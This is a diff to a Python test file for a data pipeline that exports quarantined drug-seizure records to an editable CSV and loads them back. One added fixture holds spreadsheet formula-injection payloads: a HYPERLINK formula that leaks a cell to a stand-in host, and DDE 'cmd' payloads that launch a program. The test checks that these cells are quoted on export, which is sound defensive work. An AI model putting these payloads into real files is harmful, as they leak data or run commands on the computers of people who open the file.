@@ -1,5 +1,9 @@
 """Quarantined rows go out to an editable CSV, come back corrected, load, and resolve their quarantine entries."""
 
+import csv
+import io
+import re
+
 import duckdb
 import polars as pl
 
@@ -44,3 +48,42 @@ def test_corrected_rows_load_and_resolve_their_quarantine(tmp_path):
     for read, accounted in con.execute("SELECT rows_read, rows_loaded + rows_quarantined + rows_skipped "
                                        "FROM core.ingested_files").fetchall():
         assert read == accounted
+
+
+FORMULAS = """Дата,Пункт пропуска,Вещество,Количество,Примечание
+12.03.2023,Ойбек,героин,"1,5 кг",
+13.03.2023,"=HYPERLINK(""http://x.example/?leak=""&A1,""open"")",героин,2 кг,
+14.03.2023,Ойбек,=cmd|' /C calc'!A0,2 кг,-2+3+cmd|' /C calc'!A0
+15.03.2023,Ойбек,опий,@SUM(1),+7 tip-off
+"""
+SPREADSHEET_EVALUATES = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_formulas_go_out_quoted_and_come_back_as_they_were(tmp_path):
+    home = Home(tmp_path / "home").ensure()
+    (home.landing / "formulas_2023.csv").write_text(FORMULAS, encoding="utf-8")
+    con = duckdb.connect(str(tmp_path / "w.duckdb"))
+    ingest_landing(con, home)
+    original = con.execute("SELECT source_row, reason FROM core.quarantine ORDER BY 1").fetchall()
+    assert [row for row, _ in original] == [3, 4, 5] and all("formula" in reason for _, reason in original)
+
+    (path,) = export_corrections(con, tmp_path / "out")
+    cells = [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))) for cell in row]
+    risky = [c for c in cells if c.startswith(SPREADSHEET_EVALUATES) and not re.fullmatch(r"[+-]?\d+([.,]\d*)?", c)]
+    assert not risky, risky  # 0 formula cells: each one quoted
+    assert "'=HYPERLINK(" in path.read_text(encoding="utf-8") and "'-2+3+cmd" in path.read_text(encoding="utf-8")
+
+    (home.landing / path.name).write_bytes(path.read_bytes())  # sent back untouched: the original values return
+    ingest_landing(con, home)
+    back = con.execute("SELECT reason FROM core.quarantine WHERE source_file = ? ORDER BY source_row",
+                       [path.name]).fetchall()
+    assert [r for (r,) in back] == [r for _, r in original]
+    assert con.execute("SELECT count(*) FROM core.quarantine WHERE resolved_by IS NOT NULL").fetchone()[0] == 0
+
+    fixed = path.read_text(encoding="utf-8").replace("'@SUM(1)", "3 кг")  # staff correct one cell
+    (home.landing / path.name).write_text(fixed, encoding="utf-8")
+    ingest_landing(con, home)
+    loaded = con.execute("SELECT substance_raw, mass_kg, remarks FROM core.source_records WHERE source_file = ?",
+                         [path.name]).fetchall()
+    assert loaded == [("опий", 3.0, "+7 tip-off")]  # the remark as the agency wrote it, quote gone
+    assert con.execute("SELECT source_row FROM core.quarantine WHERE resolved_by IS NOT NULL").fetchall() == [(5,)]
